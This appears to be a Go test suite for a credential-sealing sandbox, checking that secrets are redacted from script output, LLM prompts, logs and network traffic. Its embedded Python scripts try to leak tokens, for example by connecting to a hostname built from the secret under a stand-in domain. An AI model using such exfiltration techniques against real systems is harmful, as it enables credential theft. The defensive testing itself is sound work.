package engine_test

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/computclaw/airlock/app"
	"github.com/computclaw/airlock/app/credentials"
	"github.com/computclaw/airlock/app/engine"
	"github.com/computclaw/airlock/app/engine/enginetest"
	"github.com/computclaw/airlock/app/redact"
	"github.com/computclaw/airlock/app/redact/patterns"
	"github.com/computclaw/airlock/app/runner"
)

// logbook is a service that records requests and shows them to everybody.
type logbook struct {
	mu  sync.Mutex
	log bytes.Buffer
}

func (l *logbook) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if r.URL.Path == "/log" {
		_, _ = w.Write(l.log.Bytes())
		return
	}
	fmt.Fprintf(&l.log, "%s %s %s\n", r.Method, r.URL.Path, r.Header.Get("Authorization"))
	_, _ = io.WriteString(w, "written")
}

func (l *logbook) text() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.log.String()
}

// Assembled at run time to keep the texts out of every file.
func rotated() string { return strings.ReplaceAll(assembled(), "k3y", "n3w-k3y") }

func another() string { return strings.ReplaceAll(assembled(), "k3y", "oth3r-k3y") }

func injected() string { return strings.ReplaceAll(assembled(), "k3y", "inj3ct3d-k3y") }

// locked makes a profile with these places and keys, narrowed as its agent asked.
func (w *world) locked(keys []app.Key, places ...string) app.Profile {
	w.T.Helper()
	ctx := w.T.Context()
	p, err := w.Access.Profiles.Create(ctx, enginetest.Person, "some profile")
	w.Must(err)
	if len(keys) > 0 {
		_, err = w.Access.Keys.Add(ctx, enginetest.Person, p.Handle, keys)
		w.Must(err)
	}
	for _, k := range keys {
		_, err = w.Access.Keys.Link(ctx, enginetest.Person, p.Handle, k.Name, k.Name)
		w.Must(err)
	}
	_, err = w.Access.Hosts.Set(ctx, enginetest.Person, p.Handle, w.hosts(places...), nil)
	w.Must(err)
	p, err = w.Access.Lifecycle.Lock(ctx, enginetest.Person, p.Handle, time.Time{})
	w.Must(err)
	return p
}

func (w *world) hosts(places ...string) []app.Host {
	w.T.Helper()
	list := make([]app.Host, len(places))
	for i, place := range places {
		h, err := app.ParseHost(place)
		w.Must(err)
		list[i] = h
	}
	return list
}

func (w *world) credential(in credentials.Input) {
	w.T.Helper()
	_, err := w.Access.Credentials.Set(w.T.Context(), enginetest.Person, in)
	w.Must(err)
}

const (
	writeLog = `
import httpx
print(httpx.get("https://api.example.com/write", headers={"Authorization": "Bearer " + settings.get(KEY)}).text)`
	readLog = `
import httpx
text = httpx.get("https://api.example.com/log").text
print(text)
set_result({"text": text, "hex": text.encode().hex(), "words": text.split()})`
)

// keepsOut runs a script under a profile and returns what it saw. It fails if the script gets or
// reveals any of the values.
func (w *world) keepsOut(when string, tap *pipeTap, p app.Profile, script string, values ...string) app.Output {
	w.T.Helper()
	w.Profile = p
	x, out := w.Finished(script, app.StatusCompleted)
	for _, v := range values {
		for _, form := range []string{v, hex.EncodeToString([]byte(v)),
			base64.StdEncoding.EncodeToString([]byte(v))[:24]} {
			if strings.Contains(out.Stdout+out.Stderr+string(out.Result)+x.Error, form) {
				w.T.Errorf("%s: the value came out:\n%s", when, out.Stdout)
			}
			if tap.holds([]byte(form)) {
				w.T.Errorf("%s: the value was in a box", when)
			}
		}
	}
	if x.Redactions != 0 {
		w.T.Errorf("%s: what was taken out of an answer counts as %d redactions", when, x.Redactions)
	}
	return out
}

// Other profiles must not read a sealed value from a host's log, in or out of the box. The cases:
// no key, rotation, another credential, a narrowed key, a restart.
func TestHoleH2ValueInALog(t *testing.T) {
	t.Parallel()
	host := &logbook{}
	w, tap, start := worldBefore(t, host)
	start()
	w.credential(credentials.Input{Name: "TOKEN", Hosts: w.hosts("api.example.com:443", "other.example.com:443"),
		Value: app.NewSecret(assembled())})
	w.credential(credentials.Input{Name: "OTHER", Hosts: w.hosts("api.example.com:443"),
		Value: app.NewSecret(another())})
	writer := w.locked([]app.Key{{Name: "TOKEN"}}, "api.example.com:443")
	keyless := w.locked(nil, "api.example.com:443")
	w.Profile = writer
	w.Finished(strings.ReplaceAll(writeLog, "KEY", `"TOKEN"`), app.StatusCompleted)
	if !strings.Contains(host.text(), "Bearer "+assembled()) {
		t.Fatalf("the host has %s", host.text())
	}
	out := w.keepsOut("without the key", tap, keyless, readLog, assembled())
	if !strings.Contains(out.Stdout, "GET /write Bearer [REDACTED]") {
		t.Errorf("the log reads %s", out.Stdout)
	}
	if out := w.keepsOut("with the key", tap, writer, readLog, assembled()); !strings.Contains(out.Stdout,
		"Bearer [SEALED:TOKEN]") {
		t.Errorf("the log reads %s", out.Stdout)
	}

	w.credential(credentials.Input{Name: "TOKEN", Value: app.NewSecret(rotated())})
	w.Profile = writer
	w.Finished(strings.ReplaceAll(writeLog, "KEY", `"TOKEN"`), app.StatusCompleted)
	w.keepsOut("after a rotation, without the key", tap, keyless, readLog, assembled(), rotated())
	w.keepsOut("after a rotation, with the key", tap, writer, readLog, assembled(), rotated())
	w.keepsOut("with another credential of the host", tap, w.locked([]app.Key{{Name: "OTHER"}}, "api.example.com:443"),
		readLog, assembled(), rotated())
	narrowed := w.locked([]app.Key{{Name: "TOKEN", Hosts: w.hosts("other.example.com:443")}}, "api.example.com:443",
		"other.example.com:443")
	w.keepsOut("with the key narrowed to another host", tap, narrowed, readLog, assembled(), rotated())

	w.Must(w.Close(t.Context()))
	w.Must(w.Store.Close())
	w.OpenStore()
	start()
	w.keepsOut("after a restart", tap, keyless, readLog, assembled(), rotated())
	w.nowhereAtRest()
	if !tap.holds([]byte("GET /write Bearer")) {
		t.Error("the tap has not seen what the scripts read")
	}
}

// A relayed script sees others' injected credentials, but they don't leave the box. Output,
// questions and host names are masked, and no mask tells an owner.
func TestHoleH2OutputOfAnInjectedValue(t *testing.T) {
	t.Parallel()
	host := &logbook{}
	w, tap, start := worldBefore(t, host)
	start()
	w.credential(credentials.Input{Name: "THEIRS", Mode: app.ModeInjected, Hosts: w.hosts("api.example.com:443"),
		Value: app.NewSecret(injected())})
	w.Profile = w.locked([]app.Key{{Name: "THEIRS"}}, "api.example.com:443")
	w.Finished(strings.ReplaceAll(writeLog, "KEY", `"THEIRS"`), app.StatusCompleted)

	w.Profile = w.locked(nil, "api.example.com:443", "other.example.com:443")
	x := w.Send(readLog + `
value = text.split()[-1]
import socket, sys
try:
    socket.create_connection((value + ".example.org", 443))
except OSError:
    pass
print("one", value, "end", flush=True)
answer = llm.complete("what is " + value, model=value)
print(answer, value[::-1], file=sys.stderr)
raise ValueError(value)
`)
	asked := w.Until(x, app.StatusAwaitingLLM)
	w.UntilPrinted(x, " end\n") // it is redacted behind the question
	live, _ := w.Reader.LiveOutput(x.Handle)
	if !strings.Contains(live.Stdout, "one [REDACTED] end") {
		t.Errorf("live: %s", live.Stdout)
	}
	_, err := w.Controller.Respond(t.Context(), asked.ID,
		runner.Answer{Text: "it is " + injected(), By: enginetest.Agent})
	w.Must(err)
	ended := w.Until(x, app.StatusError)
	out, err := w.Reader.Output(t.Context(), x.Handle)
	w.Must(err)
	questions, err := w.Reader.Exchanges(t.Context(), x.Handle)
	w.Must(err)
	rows, err := w.Reader.Network(t.Context(), x.Handle)
	w.Must(err)
	profile, err := w.Access.Profiles.ByID(t.Context(), w.Profile.ID)
	w.Must(err)
	all := fmt.Sprintf("%+v %s %+v %+v %+v %+v %+v", out, out.Result, ended, questions, rows, profile, live)
	for _, form := range []string{injected(), hex.EncodeToString([]byte(injected())), injected()[len(injected())-4:],
		"THEIRS"} {
		if strings.Contains(all, form) {
			t.Errorf("%q came out: %s", form, all)
		}
	}
	if !tap.holds([]byte("what is " + injected())) {
		t.Error("the script never had the value; the test shows nothing")
	}
	hits, err := w.Reader.Redactions(t.Context(), x.Handle)
	w.Must(err)
	for _, channel := range []string{"stdout", "stderr", "error", "result", "prompt", "answer", "network"} {
		if len(hits[channel]) == 0 {
			t.Errorf("nothing was masked in %s: %v", channel, hits)
		}
		for _, h := range hits[channel] {
			if h.Name != "THEIRS" || h.Rule != redact.RuleNotGiven {
				t.Errorf("%s: people read %+v", channel, h)
			}
		}
	}
	if ended.Redactions == 0 || len(profile.Hosts) != 2 {
		t.Errorf("%d redactions, hosts %v", ended.Redactions, profile.Hosts)
	}
}

// A log shows another credential that begins with the script's own value or a rule's match. All of
// it is masked, leaving no remainder.
func TestHoleF1OwnValueBeginsAnothers(t *testing.T) {
	t.Parallel()
	host := &logbook{}
	set, err := patterns.New(patterns.Config{})
	if err != nil {
		t.Fatal(err)
	}
	w, tap, start := worldBefore(t, host, func(c *engine.Config) { c.Patterns, c.Ahead = set.Find, set.FindAhead })
	start()
	// assembled to keep it out of every file
	half := func(s string) string { return strings.ReplaceAll(s, "XX", "42") }
	id, secret := half("cl1ent-id-XX-7f3x9kw2m4p"), half("rY6uJ3hB5nC0-XX-dE1fG8aKoQ7")
	vendor := half("AKIAXXSFODXXLZ7KMPLQ")
	w.credential(credentials.Input{Name: "PAIR", Mode: app.ModeInjected, Hosts: w.hosts("api.example.com:443"),
		Value: app.NewSecret(id + ":" + secret)})
	w.credential(credentials.Input{Name: "VENDOR", Mode: app.ModeInjected, Hosts: w.hosts("api.example.com:443"),
		Value: app.NewSecret(vendor + ":" + secret[4:])})
	w.credential(credentials.Input{Name: "ID", Mode: app.ModeInjected, Hosts: w.hosts("api.example.com:443"),
		Value: app.NewSecret(id)})
	for _, name := range []string{"PAIR", "VENDOR"} {
		w.Profile = w.locked([]app.Key{{Name: name}}, "api.example.com:443")
		w.Finished(strings.ReplaceAll(writeLog, "KEY", `"`+name+`"`), app.StatusCompleted)
	}
	w.Profile = w.locked([]app.Key{{Name: "ID"}}, "api.example.com:443")
	x := w.Send(readLog + `
print("end of it", flush=True)
llm.complete("the log is " + text)
raise ValueError(text)`)
	asked := w.Until(x, app.StatusAwaitingLLM)
	w.UntilPrinted(x, "end of it") // it is redacted behind the question
	live, _ := w.Reader.LiveOutput(x.Handle)
	_, err = w.Controller.Respond(t.Context(), asked.ID, runner.Answer{Text: "thanks", By: enginetest.Agent})
	w.Must(err)
	ended := w.Until(x, app.StatusError)
	out, err := w.Reader.Output(t.Context(), x.Handle)
	w.Must(err)
	questions, err := w.Reader.Exchanges(t.Context(), x.Handle)
	w.Must(err)
	all := fmt.Sprintf("%+v %s %+v %+v %+v", out, out.Result, ended, questions, live)
	for _, part := range []string{id, secret[4:], hex.EncodeToString([]byte(secret[4:])), vendor} {
		if strings.Contains(all, part) {
			t.Errorf("%q came out: %s", part, all)
		}
	}
	if !tap.holds([]byte("Bearer "+id+":"+secret)) || !tap.holds([]byte("Bearer "+vendor+":"+secret[4:])) {
		t.Error("the script never had the values; the test shows nothing")
	}
	if !strings.Contains(live.Stdout, "end of it") {
		t.Errorf("live: %q", live.Stdout)
	}
	w.nowhereAtRest()
}

// The live view masks rotated credentials of others, and doesn't show output held back at the
// change.
func TestHoleF4LiveViewAfterARotation(t *testing.T) {
	t.Parallel()
	host := &logbook{}
	w, tap, start := worldBefore(t, host)
	start()
	theirs := func(value string) {
		w.credential(credentials.Input{Name: "THEIRS", Mode: app.ModeInjected, Hosts: w.hosts("api.example.com:443"),
			Value: app.NewSecret(value)})
	}
	theirs(injected())
	keyless, writer := w.locked(nil, "api.example.com:443"),
		w.locked([]app.Key{{Name: "THEIRS"}}, "api.example.com:443")
	write := func() {
		w.Profile = writer
		w.Finished(strings.ReplaceAll(writeLog, "KEY", `"THEIRS"`), app.StatusCompleted)
	}
	write()
	w.Profile = keyless
	x := w.Send(`
import httpx
text = httpx.get("https://api.example.com/log").text
value = text.split()[-1]
print(text, value[:20], sep="", end="", flush=True)
llm.complete("go on")
print(value[20:], httpx.get("https://api.example.com/log").text, "end of it", flush=True)
llm.complete("end")`)
	asked := w.Until(x, app.StatusAwaitingLLM)
	w.UntilPrinted(x, "Bearer [REDACTED]\n") // it is redacted behind the question
	live, _ := w.Reader.LiveOutput(x.Handle)
	if !strings.Contains(live.Stdout, "Bearer [REDACTED]\n") {
		t.Errorf("live: %q", live.Stdout)
	}
	theirs(another())
	write()
	_, err := w.Controller.Respond(t.Context(), asked.ID, runner.Answer{Text: "x", By: enginetest.Agent})
	w.Must(err)
	asked = w.Until(x, app.StatusAwaitingLLM)
	w.UntilPrinted(x, "end of it")
	live, _ = w.Reader.LiveOutput(x.Handle)
	for _, part := range []string{injected(), injected()[:20], injected()[20:], another()} {
		if strings.Contains(live.Stdout, part) {
			t.Errorf("live: %q", live.Stdout)
		}
	}
	if !strings.HasSuffix(live.Stdout, " end of it\n") || strings.Count(live.Stdout, "[REDACTED]") != 4 {
		t.Errorf("live: %q", live.Stdout)
	}
	_, err = w.Controller.Respond(t.Context(), asked.ID, runner.Answer{Text: "x", By: enginetest.Agent})
	w.Must(err)
	w.Until(x, app.StatusCompleted)
	out, err := w.Reader.Output(t.Context(), x.Handle)
	w.Must(err)
	if out.Stdout != live.Stdout {
		t.Errorf("live %q, in the end %q", live.Stdout, out.Stdout)
	}
	if !tap.holds([]byte("Bearer " + another())) {
		t.Error("the script never had the value; the test shows nothing")
	}
}
